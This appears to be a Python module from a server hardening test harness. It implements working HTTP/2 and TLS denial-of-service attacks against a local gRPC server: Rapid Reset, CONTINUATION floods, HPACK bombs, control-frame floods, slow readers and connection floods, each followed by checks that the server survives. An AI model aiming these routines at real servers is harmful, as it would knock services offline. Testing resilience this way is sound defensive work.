"""The attacks. Each is a function attack(ctx) that abuses ctx.server for about ctx.duration
seconds and returns an Outcome: the abusive connections (to judge whether and when the server
closed them), checks of its own, and notes of what happened.

Every attack stops by itself: bounded in time and in count, loopback only.
"""
import os
import select
import socket
import threading
import time

import hpack

from . import h2raw as h
from .h2raw import RawConn

HEALTH = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
GET_ORG = "/mlops.maturity.v1.OrganizationService/GetOrganization"
GET_MODEL = "/mlops.maturity.v1.ModelService/GetMaturityModel"
MODEL_REQ = h.pb_string(1, "models/mlops-v1")
BACKLOG = 256 * 1024  # bytes queued towards the server before an attacker waits for it


class Outcome:
    def __init__(self, conns=(), must_close=False):
        self.conns = list(conns)     # abusive RawConns, each with .abuse_start
        self.must_close = must_close
        self.checks = []             # (name, ok, detail)
        self.notes = []
        self.frames_sent = 0

    def check(self, name, ok, detail=""):
        self.checks.append((name, bool(ok), detail))

    def note(self, s):
        self.notes.append(s)


class Ctx:
    def __init__(self, server, pki, duration, scale, max_connections=None):
        self.server, self.pki, self.duration, self.scale = server, pki, duration, scale
        self.max_connections = max_connections  # the server's --max-connections, if set
        self.flood_open_s = 0.0

    def conn(self, ack_settings=True, settings=None, window=1 << 30, who="admin", rcvbuf=None):
        c = RawConn(self.server.addr, self.pki, who, rcvbuf=rcvbuf)
        c.ack_settings = ack_settings
        c.handshake()
        c.start_h2(settings=settings, window=window)
        end = time.monotonic() + 3.0
        while not c.settings_seen and not c.closed_at and time.monotonic() < end:
            c.pump(wait=0.02)  # the server's SETTINGS (ACKed or not, as asked)
        c.abuse_start = None
        return c


def _drive(conns, deadline, make_batch, out):
    """Round-robin over conns until each is closed or the deadline: a batch of abusive frames
    whenever the server has taken the previous ones, and reads of whatever it sends back."""
    while time.monotonic() < deadline:
        live = [c for c in conns if not c.closed_at]
        if not live:
            break
        progressed = False
        for c in live:
            if c.backlog() < BACKLOG:
                data, nframes = make_batch(c)
                if c.abuse_start is None:
                    c.abuse_start = time.monotonic()
                c.send(data)
                out.frames_sent += nframes
                progressed = True
            c.pump()
        if not progressed:
            h.wait_any([c.sock for c in live], 0.01, write=True)
    for c in conns:
        c.pump()


def _after_close(conns, linger=0.3):
    """Reads a moment longer (a GOAWAY may still be in flight), then closes."""
    end = time.monotonic() + linger
    while time.monotonic() < end and any(not c._read_done for c in conns):
        for c in conns:
            c.pump(wait=0.01)
    for c in conns:
        c.close()


# --- Rapid Reset (CVE-2023-44487) ----------------------------------------------------------

def rapid_reset(nconns, end_stream):
    def attack(ctx):
        conns = [ctx.conn() for _ in range(nconns)]
        out = Outcome(conns, must_close=True)
        states = {}
        for c in conns:
            enc = hpack.Encoder()
            h1, h2 = h.request_headers(HEALTH), h.request_headers(GET_ORG)
            first = [enc.encode(h1), enc.encode(h2)]
            steady = [enc.encode(h1), enc.encode(h2)]
            assert enc.encode(h1) == steady[0] and enc.encode(h2) == steady[1]
            states[id(c)] = {"first": first, "steady": steady, "n": 0}
        flags = h.END_HEADERS | (h.END_STREAM if end_stream else 0)

        def batch(c):
            st = states[id(c)]
            parts = []
            for _ in range(100):
                n = st["n"]
                blk = st["first"][n] if n < 2 else st["steady"][n % 2]
                sid = c.new_stream()
                parts.append(h.frame(h.HEADERS, flags, sid, blk))
                parts.append(h.rst_frame(sid))
                st["n"] = n + 1
            return b"".join(parts), 200

        _drive(conns, time.monotonic() + ctx.duration, batch, out)
        streams = sum(st["n"] for st in states.values())
        out.note(f"{streams} streams opened+reset on {nconns} conn(s)")
        _after_close(conns)
        return out
    return attack


# --- header blocks -------------------------------------------------------------------------

def _pseudo_block(path):
    """The request's headers, each a literal never entering the dynamic table (so an entry the
    attack inserts stays the only one, at index 62)."""
    return (b"\x83\x87"  # :method POST, :scheme https (static)
            + h.hpack_int(4, 4) + h.hpack_int(len(path), 7) + path.encode()  # :path
            + h.hpack_int(1, 4) + b"\x09localhost"  # :authority
            + h.hpack_int(31, 4) + b"\x10application/grpc"  # content-type
            + h.hpack_literal("te", "trailers"))


def continuation_flood(ack):
    def attack(ctx):
        c = ctx.conn(ack_settings=ack)
        out = Outcome([c], must_close=True)
        # 15 headers of ~1 KiB per 16 KiB frame, never indexed: the block only grows.
        chunk = b"".join(h.hpack_literal(f"x-flood-{i:02d}", "a" * 1000) for i in range(15))
        started = {"sid": None}

        def batch(conn):
            parts = []
            if started["sid"] is None:
                sid = conn.new_stream()
                started["sid"] = sid
                parts.append(h.frame(h.HEADERS, 0, sid, _pseudo_block(HEALTH)))
            for _ in range(16):
                parts.append(h.frame(h.CONTINUATION, 0, started["sid"], chunk))
            return b"".join(parts), len(parts)

        _drive([c], time.monotonic() + ctx.duration, batch, out)
        out.note(f"{out.frames_sent} frames, {out.frames_sent * len(chunk) >> 20} MiB of "
                 f"header block sent; SETTINGS {'ACKed' if ack else 'never ACKed'}")
        _after_close([c])
        return out
    return attack


def hpack_bomb(ack):
    def attack(ctx):
        c = ctx.conn(ack_settings=ack)
        out = Outcome([c], must_close=True)
        value = "b" * 4000  # entry size 4000 + 6 + 32 = 4038 <= the default 4096 table
        refs = 16000        # one byte each (indexed 62 = 0xbe): ~62 MiB decoded per block
        st = {"n": 0}

        def batch(conn):
            parts = []
            if st["n"] == 0:
                sid = conn.new_stream()
                blk = _pseudo_block(HEALTH) + h.hpack_literal("x-bomb", value, indexing=True)
                parts.append(h.frame(h.HEADERS, h.END_HEADERS | h.END_STREAM, sid, blk))
            for _ in range(4):
                sid = conn.new_stream()
                blk = _pseudo_block(HEALTH) + b"\xbe" * refs
                parts.append(h.frame(h.HEADERS, h.END_HEADERS | h.END_STREAM, sid, blk))
                st["n"] += 1
            return b"".join(parts), len(parts)

        _drive([c], time.monotonic() + ctx.duration, batch, out)
        out.note(f"{st['n']} bombs of {refs} refs (~{st['n'] * refs * 4038 >> 20} MiB decoded "
                 f"headers asked for); SETTINGS {'ACKed' if ack else 'never ACKed'}")
        _after_close([c])
        return out
    return attack


# --- control frames ------------------------------------------------------------------------

def settings_flood(ctx):
    c = ctx.conn()
    out = Outcome([c], must_close=True)
    one = h.settings_frame({h.SETTINGS_INITIAL_WINDOW_SIZE: 1 << 20,
                            h.SETTINGS_MAX_HEADER_LIST_SIZE: 1 << 16})
    _drive([c], time.monotonic() + ctx.duration, lambda conn: (one * 100, 100), out)
    out.note(f"{out.frames_sent} SETTINGS sent, {c.settings_acks} ACKed by the server")
    _after_close([c])
    return out


def empty_frames(ctx):
    """Zero-length DATA frames (no END_STREAM) on an open stream: each costs the server a
    frame's work and moves no data."""
    c = ctx.conn()
    out = Outcome([c], must_close=True)
    enc = hpack.Encoder()
    sid = c.new_stream()
    c.send(h.frame(h.HEADERS, h.END_HEADERS, sid, enc.encode(h.request_headers(HEALTH))))
    empty = h.frame(h.DATA, 0, sid)
    _drive([c], time.monotonic() + ctx.duration, lambda conn: (empty * 200, 200), out)
    out.note(f"{out.frames_sent} empty DATA frames sent")
    _after_close([c])
    return out


def ping_flood(ctx):
    c = ctx.conn()
    out = Outcome([c], must_close=True)
    st = {"n": 0}

    def batch(conn):
        parts = []
        for _ in range(100):
            st["n"] += 1
            parts.append(h.ping_frame(st["n"].to_bytes(8, "big")))
        return b"".join(parts), 100

    _drive([c], time.monotonic() + ctx.duration, batch, out)
    out.note(f"{out.frames_sent} PINGs sent, {c.pings_acked} answered")
    _after_close([c])
    return out


# --- slow readers --------------------------------------------------------------------------

def _open_streams(c, enc, n, out):
    """n requests: GetMaturityModel (a response of tens of KiB for a 20-byte request) and, one
    in ten, Health/Watch (a stream that stays open)."""
    parts = []
    for i in range(n):
        sid = c.new_stream()
        path = WATCH if i % 10 == 0 else GET_MODEL
        body = b"" if path == WATCH else MODEL_REQ
        parts.append(h.frame(h.HEADERS, h.END_HEADERS, sid, enc.encode(h.request_headers(path))))
        parts.append(h.frame(h.DATA, h.END_STREAM, sid, h.grpc_message(body)))
    c.send(b"".join(parts))
    out.frames_sent += 2 * n


def _stream_limit(c):
    """As many streams as the server allows at once (its SETTINGS_MAX_CONCURRENT_STREAMS, a
    few kept back): slow readers stay within the protocol; only their reading is slow."""
    return max(1, min(c.peer_settings.get(h.SETTINGS_MAX_CONCURRENT_STREAMS, 100), 2000) - 4)


def zero_window_reader(ctx):
    """SETTINGS_INITIAL_WINDOW_SIZE 0 and never a WINDOW_UPDATE: the server may not send a byte
    of any response body, and every response it produced waits in its memory."""
    c = ctx.conn(settings={h.SETTINGS_INITIAL_WINDOW_SIZE: 0}, window=None)
    c.auto_window = False
    c.abuse_start = time.monotonic()
    out = Outcome([c])
    enc = hpack.Encoder()
    deadline = time.monotonic() + ctx.duration
    limit = _stream_limit(c)
    streams = 0
    while time.monotonic() < deadline and not c.closed_at:
        if streams < limit and c.backlog() < BACKLOG:
            n = min(50, limit - streams)
            _open_streams(c, enc, n, out)
            streams += n
        c.pump(wait=0.02)
    out.note(f"{streams} streams open (server allows {limit + 4}), {len(c.rsts)} reset by the "
             f"server, {c.data_bytes} B of DATA received; "
             + (f"closed after {c.closed_at - c.abuse_start:.2f} s ({c.close_reason}, "
                f"GOAWAY {c.goaway_codes()})" if c.closed_at else "still open at the end"))
    _after_close([c], linger=0.1)
    return out


def trickle_reader(ctx):
    """A small receive buffer and one TCP byte read per second, with as many streams as the
    server allows asking for a model (tens of KiB each) or a health watch: responses pile up in
    the server's socket and its own buffers."""
    c = ctx.conn(rcvbuf=4096)
    c.abuse_start = time.monotonic()
    out = Outcome([c])
    enc = hpack.Encoder()
    deadline = time.monotonic() + ctx.duration
    limit = _stream_limit(c)
    streams, next_read, read = 0, time.monotonic(), 0
    while time.monotonic() < deadline and not c.closed_at:
        if streams < limit and c.backlog() < BACKLOG:
            n = min(50, limit - streams)
            _open_streams(c, enc, n, out)
            streams += n
        if time.monotonic() >= next_read:
            read += c._recv_raw(1)  # one byte of TCP (TLS cannot decrypt a partial record)
            next_read += 1.0
        time.sleep(0.02)
        c._flush()
    out.note(f"{streams} streams asked, {read} B read; "
             + (f"closed after {c.closed_at - c.abuse_start:.2f} s ({c.close_reason})"
                if c.closed_at else "still open at the end"))
    c.close()
    return out


# --- connections ---------------------------------------------------------------------------

def new_connection_checks(ctx, out, budget=1.0):
    """After abusive connections went away: a new mTLS call succeeds within `budget` s, and a
    client without a certificate gets a definite answer (refused) within `budget` s."""
    t0 = time.monotonic()
    st, detail = None, ""
    while time.monotonic() - t0 < budget:
        st, _, detail = h.unary_call(ctx.server.addr, ctx.pki, HEALTH,
                                     timeout=max(0.05, budget - (time.monotonic() - t0)))
        if st == 0:
            break
        time.sleep(0.02)
    dt = time.monotonic() - t0
    out.check("new mTLS call within 1 s", st == 0 and dt <= budget, f"{dt:.2f} s, {detail}")
    ok, dt2, detail2 = h.no_cert_answer(ctx.server.addr, ctx.pki, timeout=budget)
    out.check("no-cert client answered within 1 s", ok, f"{dt2:.2f} s, {detail2}")


def _hold(ctx, socks_or_conns, until, raw):
    """Keeps connections open until `until`, noticing the ones the server closes: {index: when}."""
    closed = {}
    if raw:
        poller = select.poll()
        byfd = {}
        for i, s in enumerate(socks_or_conns):
            poller.register(s, select.POLLIN)
            byfd[s.fileno()] = i
        while time.monotonic() < until:
            for fd, _ in poller.poll(max(0, int((until - time.monotonic()) * 1000))):
                i = byfd[fd]
                s = socks_or_conns[i]
                try:
                    if s.recv(65536):
                        continue
                except (BlockingIOError, InterruptedError):
                    continue
                except OSError:
                    pass
                closed[i] = time.monotonic()
                poller.unregister(fd)
        return closed
    # TLS connections: only those with something to read are pumped (a close, an alert, a
    # GOAWAY). Pumping all 2,000 every 0.1 s cost the attacker ~20,000 reads a second on the
    # same two cores as the server and the good client: CPU an idle attacker elsewhere would not
    # take from them.
    poller = select.poll()
    byfd = {}
    for i, c in enumerate(socks_or_conns):
        poller.register(c.sock, select.POLLIN)
        byfd[c.sock.fileno()] = i
    while time.monotonic() < until and len(closed) < len(socks_or_conns):
        for fd, _ in poller.poll(max(0, int((until - time.monotonic()) * 1000))):
            i = byfd[fd]
            c = socks_or_conns[i]
            c.pump()
            if c.closed_at:
                closed[i] = c.closed_at
                poller.unregister(fd)
    return closed


def _server_cpu_s(server):
    """The server's CPU seconds so far (utime + stime of every thread), or None."""
    try:
        with open(f"/proc/{server.pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
    except (OSError, IndexError, ValueError):
        return None


# The attacker's handshakes run at this nice level. A real attacker's CPU is on its own
# machines; here it shares two cores with the server and the good client, and a full TLS
# client handshake in Python costs it as much CPU as the server's side. At nice 0 it took a
# whole core while the server's handshakes are bounded to half of its door thread, so the good
# client lost calls to the attacker's CPU, not to the server. Niced, it gets every cycle the
# server and the good client leave, which on a quiet machine is about what it had; the server
# sees the same 2,000 handshakes, as fast as it accepts them. Both CPU figures are reported.
ATTACKER_NICE = 10


def idle_tls(n):
    def attack(ctx):
        out = Outcome()
        t0 = time.monotonic()
        res = {"conns": [], "failed": 0, "first_err": "", "cpu": 0.0, "nice": None}
        cap = t0 + max(3 * ctx.duration, 60)  # today a handshake costs the server ~8 ms
        srv_cpu0 = _server_cpu_s(ctx.server)

        def open_all():
            try:
                os.setpriority(os.PRIO_PROCESS, threading.get_native_id(), ATTACKER_NICE)
                res["nice"] = ATTACKER_NICE
            except OSError as e:
                res["nice"] = f"not set ({e})"
            cpu0 = time.thread_time()
            conns = res["conns"]
            pending = []  # up to 16 handshakes in flight at once
            started = 0
            while (started < n or pending) and time.monotonic() < cap:
                fresh = set()
                while started < n and len(pending) < 16:
                    try:
                        c = RawConn(ctx.server.addr, ctx.pki, connect=False)
                        pending.append((c, time.monotonic()))
                        fresh.add(c)
                    except OSError as e:
                        res["failed"] += 1
                        res["first_err"] = res["first_err"] or f"connect: {e}"
                    started += 1
                ready = set(h.wait_any([c.sock for c, _ in pending], 0.05))
                still = []
                for c, t in pending:
                    try:
                        if (c.sock not in ready and c not in fresh and not c.backlog()
                                and time.monotonic() - t <= 5.0):
                            still.append((c, t))
                            continue
                        if c.handshake_step():
                            conns.append(c)
                            continue
                        if time.monotonic() - t > 5.0:
                            raise TimeoutError("TLS handshake timed out (5 s)")
                        still.append((c, t))
                    except Exception as e:  # noqa: BLE001 - refused or timed out: counted
                        res["failed"] += 1
                        res["first_err"] = res["first_err"] or f"{type(e).__name__}: {e}"
                        c.close()
                pending = still
            for c, _ in pending:
                c.close()
            res["cpu"] = time.thread_time() - cpu0

        opener = threading.Thread(target=open_all, daemon=True)
        opener.start()
        opener.join()
        conns, failed, first_err = res["conns"], res["failed"], res["first_err"]
        t_open = time.monotonic() - t0
        srv_cpu1 = _server_cpu_s(ctx.server)
        # Held for the attack's duration, and at least a moment after the last one opened.
        closed = _hold(ctx, conns, max(t0 + ctx.duration, time.monotonic() + 0.5), raw=False)
        out.note(f"{len(conns)}/{n} TLS handshakes done in {t_open:.1f} s, {failed} failed"
                 + (f" ({first_err})" if failed else "")
                 + f"; server closed {len(closed)} of them while idle")
        srv = (f"{srv_cpu1 - srv_cpu0:.1f} s" if srv_cpu0 is not None and srv_cpu1 is not None
               else "?")
        out.note(f"CPU while opening them ({t_open:.1f} s, 2 cores): attacker's handshakes "
                 f"{res['cpu']:.1f} s (nice {res['nice']}), server {srv}")
        for c in conns:
            c.close()
        new_connection_checks(ctx, out)
        return out
    return attack


def tcp_flood(n):
    """n plain TCP connections that never speak (beyond the server's descriptor limit)."""
    def attack(ctx):
        out = Outcome()
        socks, failed = [], 0
        t0 = time.monotonic()
        for _ in range(n):
            s = socket.socket()
            s.settimeout(1.0)
            try:
                s.connect(ctx.server.addr)
                s.setblocking(False)
                socks.append(s)
            except OSError:
                failed += 1
                s.close()
        ctx.flood_open_s = time.monotonic() - t0
        closed = _hold(ctx, socks, t0 + ctx.duration, raw=True)
        out.note(f"{len(socks)}/{n} TCP connections made ({failed} failed); server closed "
                 f"{len(closed)} during the {ctx.duration:g} s"
                 + (f" (first after {min(closed.values()) - t0:.2f} s)" if closed else ""))
        out.check("server alive during the flood", ctx.server.alive())
        _refusal_check(ctx, out, n, len(socks), closed, t0)
        for s in socks:
            s.close()
        new_connection_checks(ctx, out)
        return out
    return attack


def _refusal_check(ctx, out, n, made, closed, t0):
    """With --max-connections=M below the descriptor limit, the connections beyond M are
    refused (accepted and closed at once, counted in maturityd_connections_refused_total): at
    least 90 % of the n - M extras must see their close within 1 s of the flood's start."""
    cap = ctx.max_connections
    if cap is None or made <= cap:
        return
    quick = sum(1 for t in closed.values() if t - t0 <= 1.0 + ctx.flood_open_s)
    want = int(0.9 * (made - cap))
    out.check(f"connections beyond --max-connections={cap} refused", quick >= want,
              f"{quick} closed by the server within 1 s, want >= {want}")


def half_open_tls(n):
    """n connections that send a ClientHello and then nothing."""
    def attack(ctx):
        out = Outcome()
        hello = h.client_hello(ctx.pki)
        socks, failed = [], 0
        t0 = time.monotonic()
        for _ in range(n):
            s = socket.socket()
            s.settimeout(1.0)
            try:
                s.connect(ctx.server.addr)
                s.sendall(hello)
                s.setblocking(False)
                socks.append(s)
            except OSError:
                failed += 1
                s.close()
        ctx.flood_open_s = time.monotonic() - t0
        closed = _hold(ctx, socks, t0 + ctx.duration, raw=True)
        out.note(f"{len(socks)}/{n} ClientHellos sent ({failed} failed); server closed "
                 f"{len(closed)} during the {ctx.duration:g} s"
                 + (f" (first after {min(closed.values()) - t0:.2f} s)" if closed else ""))
        out.check("server alive during the flood", ctx.server.alive())
        _refusal_check(ctx, out, n, len(socks), closed, t0)
        for s in socks:
            s.close()
        new_connection_checks(ctx, out)
        return out
    return attack
